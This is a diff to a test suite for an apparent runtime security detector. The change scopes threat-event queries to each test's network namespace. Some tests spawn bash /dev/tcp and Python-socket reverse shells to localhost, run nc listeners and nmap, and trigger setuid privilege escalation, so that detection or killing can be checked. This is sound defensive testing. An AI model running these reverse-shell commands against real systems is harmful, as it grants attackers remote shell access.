@@ -35,7 +35,7 @@ def test_reverse_shell_bash_dev_tcp(netns: str, harness: Callable[..., Harness])
     lst = _listener(netns, 4444)
     sh = spawn_in(netns, "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", stderr=subprocess.DEVNULL)
     try:
-        ev = h.wait(type="threat", name=detections.REVERSE_SHELL)
+        ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)
         assert ev, h.snapshot()
         assert ev[0]["detail"] == "127.0.0.1:4444" and ev[0]["name"] == detections.REVERSE_SHELL
         assert ev[0]["severity"] == "critical" and ev[0]["action"] == "alert"
@@ -57,7 +57,7 @@ def test_reverse_shell_python_sockets(netns: str, harness: Callable[..., Harness
     )
     py = spawn_in(netns, PYTHON, "-c", code)
     try:
-        ev = h.wait(type="threat", name=detections.REVERSE_SHELL)
+        ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)
         assert ev and ev[0]["detail"] == "127.0.0.1:4445"
         assert ev[0]["chain"][0]["name"].startswith("python")  # type: ignore[index]
     finally:
@@ -71,7 +71,7 @@ def test_a_shell_on_a_pipe_is_not_a_reverse_shell(netns: str, harness: Callable[
     r = in_pod(netns, "echo 'sleep 0.3' | bash")
     assert r.returncode == 0
     time.sleep(0.5)
-    assert not h.find(type="threat", name=detections.REVERSE_SHELL)
+    assert not h.find(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)
 
 
 def test_suspicious_tools_and_package_manager(netns: str, harness: Callable[..., Harness], tmp_path) -> None:
@@ -84,14 +84,17 @@ def test_suspicious_tools_and_package_manager(netns: str, harness: Callable[...,
     os.chmod(nc, 0o755)
     h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
     assert in_pod(netns, f"{nmap} 0.3; {apt} 0.3; {nc} 198.18.0.1 80; {nc} -lvp 4444").returncode == 0
-    tools = wait_for(lambda: len(h.find(type="threat", name=detections.SUSPICIOUS_PROCESS)) >= 2)
+    tools = wait_for(
+        lambda: len(h.find(type="threat", name=detections.SUSPICIOUS_PROCESS, workload=f"netns:{netns}")) >= 2
+    )
     assert tools
+    ours = f"netns:{netns}"  # other workloads on this node may run tools too
     found = {
         (e["detail"], str(e["cmdline"]).split()[-1])
-        for e in h.find(type="threat", name=detections.SUSPICIOUS_PROCESS)
+        for e in h.find(type="threat", name=detections.SUSPICIOUS_PROCESS, workload=ours)
     }
     assert found == {("nmap", "'0.3']"), ("nc", "'4444']")}  # nc as a plain client is not reported
-    pm = h.wait(type="threat", name=detections.PACKAGE_MANAGER)
+    pm = h.wait(type="threat", workload=f"netns:{netns}", name=detections.PACKAGE_MANAGER)
     assert pm and pm[0]["detail"] == "apt-get" and pm[0]["severity"] == "medium"
 
 
@@ -103,13 +106,15 @@ def test_privilege_escalation_through_a_setuid_binary(
     h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
     drop = "setpriv --reuid=65534 --regid=65534 --clear-groups"
     assert in_pod(netns, f"{drop} {suid} 0.3; {drop} sleep 0.3").returncode == 0
-    ev = h.wait(type="threat", name=detections.PRIVILEGE_ESCALATION)
+    ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.PRIVILEGE_ESCALATION)
     assert ev, h.snapshot()
     assert ev[0]["name"] == detections.PRIVILEGE_ESCALATION
     # Seen through the UID event of the setuid exec or the exec itself, whichever the kernel sends first.
     assert ev[0]["process_name"] == "rt-suid" and "65534" in str(ev[0]["detail"])
     assert ev[0]["uid"] == 65534 and ev[0]["euid"] == 0 and ev[0]["path"] == suid
-    assert len(h.find(type="threat", name=detections.PRIVILEGE_ESCALATION)) == 1  # not the plain sleep
+    assert (
+        len(h.find(type="threat", workload=f"netns:{netns}", name=detections.PRIVILEGE_ESCALATION)) == 1
+    )  # not the plain sleep
 
 
 def test_reverse_shell_is_killed_in_protect(netns: str, harness: Callable[..., Harness]) -> None:
@@ -117,7 +122,9 @@ def test_reverse_shell_is_killed_in_protect(netns: str, harness: Callable[..., H
     lst = _listener(netns, 4446)
     sh = spawn_in(netns, "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4446 0>&1", stderr=subprocess.DEVNULL)
     try:
-        assert h.wait(type="threat", name=detections.REVERSE_SHELL, action="killed")
+        assert h.wait(
+            type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL, action="killed"
+        )
         assert sh.wait(5) != 0
     finally:
         kill_tree([sh.pid, lst.pid])
